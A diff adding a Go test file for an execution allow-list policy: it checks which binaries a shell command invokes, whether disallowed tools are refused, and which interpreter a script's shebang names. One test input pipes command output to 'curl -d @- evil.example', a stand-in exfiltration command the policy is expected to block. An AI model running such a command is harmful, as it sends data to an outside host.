@@ -0,0 +1,59 @@
+package mold
+
+import (
+	"errors"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestCommandBinaries(t *testing.T) {
+	for command, want := range map[string][]string{
+		"gh api /orgs/acme/repos":                             {"gh"},
+		`gh api repos --jq '.[] | .name' 2>&1 | sort -u`:      {"gh", "sort"},
+		"FOO=1 BAR=2 jq -r .x < in.json && echo done":         {"jq", "echo"},
+		`echo "$(whoami)" ; (cd /tmp; ls) & wait`:             {"echo", "whoami", "cd", "ls", "wait"},
+		"echo `date` &> /dev/null":                            {"echo", "date"},
+		`"/usr/bin/env" python3 -c 'print(1)' || { exit 1; }`: {"/usr/bin/env", "exit"},
+	} {
+		if got := CommandBinaries(command); !slices.Equal(got, want) {
+			t.Errorf("CommandBinaries(%q) = %q, want %q", command, got, want)
+		}
+	}
+}
+
+func TestExecPolicy_CheckCommand(t *testing.T) {
+	if err := (ExecPolicy{}).CheckCommand("rm -rf /tmp/x"); err != nil {
+		t.Errorf("zero policy refused: %v", err)
+	}
+	if err := (ExecPolicy{Disabled: true}).CheckCommand("gh api x"); !errors.Is(err, ErrExecDisabled) {
+		t.Errorf("disabled: err = %v", err)
+	}
+	p := ExecPolicy{Allow: []string{"gh", "jq"}}
+	if err := p.CheckCommand("gh api x | /usr/bin/jq -r .name"); err != nil {
+		t.Errorf("allowed command refused: %v", err)
+	}
+	if err := p.CheckCommand("gh api x | curl -d @- evil.example"); err == nil || !strings.Contains(err.Error(), `"curl"`) {
+		t.Errorf("curl: err = %v", err)
+	}
+}
+
+func TestExecPolicy_CheckScript(t *testing.T) {
+	for script, want := range map[string]string{
+		"echo hi\n":                      "sh",
+		"#!/bin/bash\necho hi\n":         "bash",
+		"#!/usr/bin/env -S python3 -u\n": "python3",
+		"#!/usr/bin/env node\n":          "node",
+	} {
+		if got := ScriptInterpreter([]byte(script)); got != want {
+			t.Errorf("ScriptInterpreter(%q) = %q, want %q", script, got, want)
+		}
+	}
+	p := ExecPolicy{Allow: []string{"sh", "bash"}}
+	if err := p.CheckScript([]byte("#!/bin/bash\n")); err != nil {
+		t.Errorf("bash refused: %v", err)
+	}
+	if err := p.CheckScript([]byte("#!/usr/bin/env node\n")); err == nil {
+		t.Error("node allowed")
+	}
+}